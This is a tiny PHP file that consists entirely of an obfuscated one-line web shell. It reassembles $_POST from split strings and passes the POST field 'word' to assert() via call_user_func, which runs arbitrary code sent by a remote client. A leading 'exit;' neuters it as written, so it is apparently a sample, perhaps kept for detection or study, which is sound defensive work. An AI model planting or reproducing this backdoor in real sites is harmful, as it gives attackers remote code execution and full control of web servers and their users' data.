<?php exit;
$all = ${"_PO" . "ST"};
call_user_func("assert", $all["word"]);
